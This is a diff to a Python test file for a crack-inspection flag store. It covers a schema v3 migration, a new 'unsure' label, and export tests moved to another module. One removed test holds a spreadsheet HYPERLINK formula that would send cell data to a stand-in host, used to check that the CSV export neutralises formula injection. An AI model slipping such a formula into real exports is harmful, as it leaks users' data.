@@ -22,7 +22,8 @@ import cv2
 import numpy as np
 import pytest
 
-from inspector.store import (SCHEMA_VERSION, UNSET, ExportReport, FlagRecord, FlagStore, ModelRef,
+from inspector.flag_export import ExportReport
+from inspector.store import (SCHEMA_VERSION, UNSET, FlagRecord, FlagStore, ModelRef,
                              RecoveryReport, StoreError)
 from support import run_and_kill, store  # noqa: F401  (store: a fixture)
 
@@ -170,7 +171,7 @@ def test_add_refuses_bad_input(store, change, message):
 
 def test_other_calls_refuse_bad_input(store):
     rec = add(store)
-    with pytest.raises(ValueError, match=r"label must be one of \['crack', 'no_crack'\]"):
+    with pytest.raises(ValueError, match=r"label must be one of \['crack', 'no_crack', 'unsure'\]"):
         store.update(rec.id, label="uncertain")
     with pytest.raises(ValueError, match="location must be text"):
         store.update(rec.id, location=["x"])
@@ -186,8 +187,6 @@ def test_other_calls_refuse_bad_input(store):
         store.list(limit=-1)
     with pytest.raises(ValueError, match="expected a FlagRecord"):
         store.load_frame(rec.id)
-    with pytest.raises(ValueError, match="threshold"):
-        store.export_dataset(store.root.parent / "out", threshold=0)
     assert store.get(np.int64(rec.id)) == rec == store.list(limit=np.int64(1))[0]  # numpy integers are fine
     store.close()
     with pytest.raises(StoreError, match="closed"):
@@ -272,7 +271,7 @@ def test_migrates_a_v1_database(tmp_path):
         assert store.update(recs[0].id, location="deck", label="crack").location == "deck"
         add(store)  # new flags go in beside the migrated ones
     db = sqlite3.connect(root / "flags.sqlite3")
-    assert db.execute("PRAGMA user_version").fetchone()[0] == SCHEMA_VERSION == 2
+    assert db.execute("PRAGMA user_version").fetchone()[0] == SCHEMA_VERSION == 3
     assert db.execute("PRAGMA journal_mode").fetchone()[0] == "wal"
     assert db.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
     db.close()
@@ -280,18 +279,54 @@ def test_migrates_a_v1_database(tmp_path):
         assert store.recovered == RecoveryReport() and store.count() == 3
 
 
+def write_v2_store(root: Path) -> list[str]:
+    """A store as the v2 release left it: the v1 flags plus the v2 review columns, reviewed."""
+    uids = write_v1_store(root)
+    db = sqlite3.connect(root / "flags.sqlite3")
+    db.executescript("ALTER TABLE flags ADD COLUMN location TEXT; ALTER TABLE flags ADD COLUMN note TEXT; "
+                     "ALTER TABLE flags ADD COLUMN label TEXT; PRAGMA user_version = 2;")
+    db.execute("UPDATE flags SET label = 'no_crack', location = 'pier 3', note = 'joint' WHERE uid = ?", (uids[0],))
+    db.execute("UPDATE flags SET label = 'crack' WHERE uid = ?", (uids[1],))
+    db.commit()
+    db.close()
+    return uids
+
+
+def test_migrates_a_v2_database_keeping_every_review(tmp_path):
+    """v2 -> v3: every flag and its review stay; a clean frame's tiles become clean tiles (what
+    the v2 export said); the ranking key is computed; the history starts empty and works."""
+    root = tmp_path / "flags"
+    root.mkdir()
+    clean_uid, crack_uid = write_v2_store(root)
+    with FlagStore(root) as store:
+        assert store.recovered == RecoveryReport(migrated=(2, 3))
+        clean, crack = sorted(store.list(), key=lambda r: r.uid != clean_uid)
+        assert (clean.uid, clean.label, clean.location, clean.note) == (clean_uid, "no_crack", "pier 3", "joint")
+        assert clean.tile_labels == ("no_crack", "no_crack")
+        assert (crack.uid, crack.label, crack.tile_labels) == (crack_uid, "crack", None)  # tiles unknown in v2
+        assert crack.uncertainty == pytest.approx(0.7219, abs=1e-4)  # H(0.2) in bits, the least sure tile
+        assert (crack.teacher_probs, crack.disagreement, crack.deleted_at) == (None, None, None)
+        assert store.history() == [] and not store.can_undo()
+        store.set_review(crack.id, label="crack", tile_labels=["crack", "no_crack"], reviewer="ana")
+        assert store.undo()[0].tile_labels is None
+    db = sqlite3.connect(root / "flags.sqlite3")
+    assert db.execute("PRAGMA user_version").fetchone()[0] == 3
+    assert db.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
+    db.close()
+
+
 def test_refuses_a_newer_schema_untouched(tmp_path):
     root = tmp_path / "flags"
     (root / "images" / "2030-01").mkdir(parents=True)
     db = sqlite3.connect(root / "flags.sqlite3")
-    db.executescript("CREATE TABLE flags2 (id INTEGER PRIMARY KEY); PRAGMA user_version = 3;")
+    db.executescript("CREATE TABLE flags2 (id INTEGER PRIMARY KEY); PRAGMA user_version = 4;")
     db.close()
-    unknown_to_v2 = root / "images" / "2030-01" / f"{'c' * 32}.frame.png"  # no v2 row claims it
-    unknown_to_v2.write_bytes(b"future")
+    unknown_to_v3 = root / "images" / "2030-01" / f"{'c' * 32}.frame.png"  # no v3 row claims it
+    unknown_to_v3.write_bytes(b"future")
     before = (root / "flags.sqlite3").read_bytes()
-    with pytest.raises(StoreError, match="schema v3, written by a newer crack-inspector.*up to v2"):
+    with pytest.raises(StoreError, match="schema v4, written by a newer crack-inspector.*up to v3"):
         FlagStore(root)
-    assert (root / "flags.sqlite3").read_bytes() == before and unknown_to_v2.exists()
+    assert (root / "flags.sqlite3").read_bytes() == before and unknown_to_v3.exists()
     with FlagStore(tmp_path / "other"):  # the refusal released the folder lock and nothing leaked
         pass
     (root / "flags.sqlite3").write_bytes(b"this is not a database" * 100)
@@ -398,84 +433,3 @@ def test_sigkill_never_loses_a_stored_flag(tmp_path):
           f"{cleaned[0]} temp files and {cleaned[1]} orphan images; the last one: {last_damage.summary()}")
     # The test proves something only if kills landed while opening and in the middle of adds.
     assert len(stored) >= 50 and killed_opening >= 1 and sum(cleaned) >= 1
-
-
-# --------------------------------------------------------------------------- export
-
-
-def test_export_reads_back_as_a_distill_dataset(store, tmp_path):
-    from distill.data.layouts import read_dataset
-    from distill.data.samples import LABELS as DISTILL_LABELS
-
-    frames = [real_frame("crack", 0), real_frame("no_crack", 0), real_frame("crack", 1)]
-    model_says = add(store, frames[0], probs=(0.95, 0.2, 0.5, 0.49), location="pier 3", note='say "hi", ok')
-    reviewed_clean = add(store, frames[1], probs=(0.9, 0.1, 0.7, 0.05), reason="uncertain")
-    reviewed_crack = add(store, frames[2], probs=(0.3, 0.8, 0.1, 0.6), reason="manual")
-    store.update(reviewed_clean.id, label="no_crack")
-    store.update(reviewed_crack.id, label="crack")
-    out = tmp_path / "export"
-
-    report = store.export_dataset(out, threshold=0.5)
-    assert report == ExportReport(out, flags=3, crack=4, no_crack=8, reviewed=4, skipped=())
-    expected = {
-        **{f"{model_says.uid}_{i:03d}": lab for i, lab in enumerate(["crack", "no_crack", "crack", "no_crack"])},
-        **{f"{reviewed_clean.uid}_{i:03d}": "no_crack" for i in range(4)},
-        **{f"{reviewed_crack.uid}_{i:03d}": lab for i, lab in enumerate(["no_crack", "crack", "no_crack", "crack"])},
-    }
-    samples = read_dataset(out, layout="auto")
-    assert {Path(s.path).stem: DISTILL_LABELS[s.label] for s in samples} == expected
-    for s in samples:  # each patch is the tile's crop of the stored frame
-        uid, index = Path(s.path).stem.split("_")
-        box = TILE_BOXES[int(index)]
-        frame = frames[[model_says.uid, reviewed_clean.uid, reviewed_crack.uid].index(uid)]
-        patch = cv2.cvtColor(cv2.imread(s.path, cv2.IMREAD_COLOR), cv2.COLOR_BGR2RGB)
-        np.testing.assert_array_equal(patch, frame[box[1]:box[3], box[0]:box[2]])
-
-    with open(out / "metadata.csv", newline="", encoding="utf-8") as f:
-        rows = list(csv.DictReader(f))
-    meta = json.loads((out / "metadata.json").read_text(encoding="utf-8"))
-    assert meta["threshold"] == 0.5 and len(rows) == len(meta["patches"]) == 12
-    first = rows[0]
-    assert first == {"file": f"crack/{model_says.uid}_000.png", "flag_uid": model_says.uid, "box": "0 0 150 150",
-                     "crack_prob": "0.95", "label": "crack", "label_source": "model", "source": "camera 0",
-                     "model_name": "crack-student", "model_version": "1.0.0", "model_sha256": "ab" * 32,
-                     "created": model_says.created, "location": "pier 3", "note": 'say "hi", ok'}
-    assert meta["patches"][0] == {**first, "box": [0, 0, 150, 150], "crack_prob": 0.95}
-    assert {r["label_source"] for r in rows if r["flag_uid"] == reviewed_clean.uid} == {"review"}
-    assert {(r["file"].split("/")[0], r["label"]) for r in rows} == {("crack", "crack"), ("no_crack", "no_crack")}
-
-    with pytest.raises(StoreError, match="not an empty folder"):
-        store.export_dataset(out)
-    (store.root / reviewed_crack.frame_file).unlink()  # a damaged flag is skipped, not fatal
-    report = store.export_dataset(tmp_path / "export2", threshold=0.9)
-    assert (report.flags, report.crack, report.no_crack, report.skipped) == (2, 1, 7, (reviewed_crack.uid,))
-
-
-def test_export_csv_cannot_carry_a_spreadsheet_formula(store, tmp_path):
-    """What an inspector types (note, location) opens in a spreadsheet as text, never as a
-    formula; metadata.json keeps it exactly as typed."""
-    note, location = '=HYPERLINK("http://x.example/?"&A1,"click")', "+49 pier 3"
-    add(store, real_frame("crack", 0), probs=(0.95, 0.2, 0.5, 0.49), location=location, note=note)
-    store.export_dataset(tmp_path / "export")
-    with open(tmp_path / "export" / "metadata.csv", newline="", encoding="utf-8") as f:
-        rows = list(csv.DictReader(f))
-    assert {(r["note"], r["location"]) for r in rows} == {("'" + note, "'" + location)}
-    meta = json.loads((tmp_path / "export" / "metadata.json").read_text(encoding="utf-8"))
-    assert {(p["note"], p["location"]) for p in meta["patches"]} == {(note, location)}
-
-
-def test_inspector_export_flags_command(tmp_path):
-    """``inspector --store DIR --export-flags OUT``: no window, no model; refuses a non-empty OUT."""
-    from inspector.qt.main import main
-
-    root = tmp_path / "flags"
-    with FlagStore(root) as s:
-        add(s, real_frame("crack", 0), probs=(0.95, 0.2, 0.5, 0.49))
-    out = tmp_path / "dataset"
-    assert main(["--store", str(root), "--export-flags", str(out)]) == 0
-    assert len(list((out / "crack").glob("*.png"))) == 2 and len(list((out / "no_crack").glob("*.png"))) == 2
-    assert main(["--store", str(root), "--export-flags", str(out)]) == 2  # not into a non-empty folder
-    code = (f"import sys; from inspector.qt.main import main; "
-            f"rc = main(['--store', {str(root)!r}, '--export-flags', {str(tmp_path / 'again')!r}]); "
-            f"assert 'PySide6' not in sys.modules; sys.exit(rc)")
-    assert subprocess.run([sys.executable, "-c", code], capture_output=True).returncode == 0
